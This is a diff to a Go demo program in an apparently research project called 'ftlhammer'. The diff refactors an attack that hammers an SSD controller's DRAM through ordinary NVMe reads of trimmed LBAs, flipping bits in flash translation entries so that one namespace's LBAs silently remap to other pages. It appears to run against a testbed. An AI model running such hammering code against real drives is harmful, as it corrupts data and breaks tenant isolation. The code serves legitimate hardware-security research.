@@ -8,8 +8,8 @@ import (
 	"fmt"
 	"log"
 
+	"ftlhammer/internal/attack"
 	"ftlhammer/internal/cloud"
-	"ftlhammer/internal/core"
 	"ftlhammer/internal/dram"
 	"ftlhammer/internal/ftl"
 	"ftlhammer/internal/nand"
@@ -50,63 +50,58 @@ func main() {
 		id.Model, float64(id.Capacity)/(1<<30), id.BlockBytes, id.L2PKind)
 
 	// Ordinary I/O through the NVMe front end.
-	atk := core.NewAttacker(tb.Device, tb.AttackerNS, nvme.PathDirect)
-	buf := make([]byte, tb.Device.BlockBytes())
+	dev, ns := tb.Device, tb.AttackerNS
+	buf := make([]byte, dev.BlockBytes())
 	copy(buf, "hello flash")
-	if err := tb.Device.Write(tb.AttackerNS, 42, buf, nvme.PathDirect); err != nil {
+	if err := dev.Write(ns, 42, buf, nvme.PathDirect); err != nil {
 		log.Fatal(err)
 	}
 	got := make([]byte, len(buf))
-	if _, err := tb.Device.Read(tb.AttackerNS, 42, got, nvme.PathDirect); err != nil {
+	if _, err := dev.Read(ns, 42, got, nvme.PathDirect); err != nil {
 		log.Fatal(err)
 	}
 	fmt.Printf("normal I/O: wrote and read back %q\n", got[:11])
 
 	// Offline analysis: which of my LBAs' translations share DRAM rows?
-	plans, err := atk.AnalyzeOwnPartition()
+	bindings, err := attack.Analyze(dev, ns, attack.AnalyzeOptions{})
 	if err != nil {
 		log.Fatal(err)
 	}
-	fmt.Printf("offline analysis: %d aggressor/victim row triples available\n", len(plans))
+	fmt.Printf("offline analysis: %d aggressor/victim row triples available\n", len(bindings))
 
 	// Prepare the victim rows (sequential writes -> mapped entries),
 	// then hammer with ordinary reads of two trimmed LBAs.
-	budget := int(atk.RequiredRate()*0.064) * 2
-	for n, plan := range plans {
-		for _, g := range plan.VictimGlobalLBAs {
+	h := &attack.DeviceHammerer{Dev: dev, NS: ns, Path: nvme.PathDirect}
+	pat := attack.DoublePattern()
+	pat.Iterations = int(attack.RequiredRate(dev)*0.064) * 2
+	for n, b := range bindings {
+		for _, g := range b.VictimGlobalLBAs {
 			for k := ftl.LBA(0); k < 16; k++ {
-				if g+k >= atk.NS.StartLBA && uint64(g+k-atk.NS.StartLBA) < atk.NS.NumLBAs {
-					if err := atk.PrepareRange(g+k-atk.NS.StartLBA, 1); err != nil {
+				if g+k >= ns.StartLBA && uint64(g+k-ns.StartLBA) < ns.NumLBAs {
+					lba := g + k - ns.StartLBA
+					for j := range buf {
+						buf[j] = byte(lba) ^ 0xA5
+					}
+					if err := dev.Write(ns, lba, buf, nvme.PathDirect); err != nil {
 						log.Fatal(err)
 					}
 				}
 			}
 		}
-		before := map[ftl.LBA]nand.PPN{}
-		for _, g := range plan.VictimGlobalLBAs {
-			for k := ftl.LBA(0); k < 16; k++ {
-				before[g+k] = tb.FTL.PPNOf(g + k)
-			}
-		}
-		fast := plan
-		fast.AggLBAs = [2][]ftl.LBA{{plan.AggLBAs[0][0]}, {plan.AggLBAs[1][0]}}
-		if err := atk.TrimRange(fast.AggLBAs[0][0], 1); err != nil {
+		before := attack.SnapshotVictimLines(tb.FTL, b)
+		fast, err := attack.PinAndTrim(dev, ns, nvme.PathDirect, b)
+		if err != nil {
 			log.Fatal(err)
 		}
-		if err := atk.TrimRange(fast.AggLBAs[1][0], 1); err != nil {
+		if err := h.Hammer(fast, pat); err != nil {
 			log.Fatal(err)
 		}
-		if err := atk.Hammer(fast, core.HammerOptions{Pairs: budget}); err != nil {
-			log.Fatal(err)
-		}
-		for lba, old := range before {
-			if now := tb.FTL.PPNOf(lba); now != old {
-				fmt.Printf("hammered rows %v around victim row %d (bank %d)\n",
-					plan.Triple.AggRows, plan.Triple.VictimRow, plan.Triple.Bank)
-				fmt.Printf("BITFLIP: LBA %d silently remapped PPN %#x -> %#x\n", lba, old, now)
-				fmt.Println("-> reads of that LBA now return another page's data")
-				return
-			}
+		if r := before.Remaps(tb.FTL); len(r) > 0 {
+			fmt.Printf("hammered rows %v around victim row %d (bank %d)\n",
+				b.Triple.AggRows, b.Triple.VictimRow, b.Triple.Bank)
+			fmt.Printf("BITFLIP: LBA %d silently remapped PPN %#x -> %#x\n", r[0].LBA, r[0].Old, r[0].New)
+			fmt.Println("-> reads of that LBA now return another page's data")
+			return
 		}
 		if n > 16 {
 			break
